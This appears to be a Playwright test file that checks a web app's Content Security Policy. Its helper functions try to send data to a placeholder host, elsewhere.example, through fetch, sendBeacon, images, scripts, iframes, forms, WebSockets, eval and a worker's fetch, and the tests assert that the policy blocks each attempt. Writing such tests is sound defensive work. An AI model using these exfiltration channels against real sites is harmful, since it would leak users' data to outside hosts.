import type { Page } from "@playwright/test";
import { serve } from "../scripts/serve.mjs";
import { expect, test } from "./fixtures/app";

const ELSEWHERE = "https://elsewhere.example/";

test("the policy stands in the response and in the page", async ({ page }) => {
  const response = await page.goto("./");
  const header = response?.headers()["content-security-policy"] ?? "";
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");

  for (const policy of [header, meta ?? ""]) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval';");
    expect(policy).not.toContain("http");
  }
  expect(header).toContain("frame-ancestors 'none'");
  expect(response?.headers()["referrer-policy"]).toBe("no-referrer");
  expect(response?.headers()["x-content-type-options"]).toBe("nosniff");
});

test("the start page opens and asks nobody else for anything", async ({ page }) => {
  await page.goto("./");
  await expect(page.getByRole("heading").first()).toBeVisible();
  await expect(page.locator("input[type=file]").first()).toBeAttached();
  await page.waitForLoadState("networkidle");
});

test.describe("what tries to send data away is refused", () => {
  test.use({
    expectedComplaints: /Content Security Policy|Failed to load resource/,
    expectedRefusals: /elsewhere\.example/,
  });

  test("by our own server", async ({ page }) => {
    await page.goto("./");
    await expectNoWayOut(page);
  });

  test("by the page itself, on a host that sends no headers", async ({ page }) => {
    const site = await serve({ dir: "dist", isProtected: false });
    try {
      const response = await page.goto(site.url);
      expect(response?.headers()["content-security-policy"]).toBeUndefined();
      await expectNoWayOut(page);
    } finally {
      await site.close();
    }
  });
});

async function expectNoWayOut(page: Page): Promise<void> {
  await tryEveryWayOut(page);
  const refused = () => page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused]); // Put there above.
  await expect
    .poll(refused)
    .toEqual(
      expect.arrayContaining([
        "fetch",
        "beacon",
        "socket",
        "img-src",
        "script-src-elem",
        "form-action",
        "frame-src",
        "eval",
      ]),
    );

  await expect.poll(() => page.workers().length, "the app's worker").toBeGreaterThan(0);
  for (const worker of page.workers()) {
    const answer = await worker.evaluate(
      (address) =>
        new Promise((done) => {
          addEventListener("securitypolicyviolation", (event) => {
            done(event.effectiveDirective);
          });
          void fetch(address, { method: "POST", body: "rows" }).then(
            () => {
              done("was sent");
            },
            () => undefined,
          );
        }),
      ELSEWHERE,
    );
    expect(answer, "what stops a request of the worker").toBe("connect-src");
  }
}

/** Tries every way out of the page, which notes the names of those that the policy closes. */
async function tryEveryWayOut(page: Page): Promise<void> {
  await page.evaluate(async (address) => {
    const refused = new Set<string>();
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      if (effectiveDirective !== "connect-src") refused.add(effectiveDirective);
      else refused.add(blockedURI.startsWith("wss:") ? "socket" : (/\?(\w+)/.exec(blockedURI)?.[1] ?? blockedURI));
    });

    await fetch(`${address}?fetch`, { method: "POST", body: "rows" }).catch(() => undefined);
    navigator.sendBeacon(`${address}?beacon`, "rows");
    new Image().src = `${address}?rows`;
    const script = document.createElement("script");
    script.src = address;
    const frame = document.createElement("iframe");
    frame.src = address;
    const form = document.createElement("form");
    form.action = address;
    document.body.append(script, frame, form);
    form.submit();
    try {
      new WebSocket(address.replace("https:", "wss:"));
    } catch {
      refused.add("socket");
    }
    // Later, because the browser lets an evaluation by the test itself do what a page may not.
    setTimeout(() => {
      try {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the policy must refuse exactly this
        new Function("return 1")();
      } catch {
        refused.add("eval");
      }
    });
  }, ELSEWHERE);
}
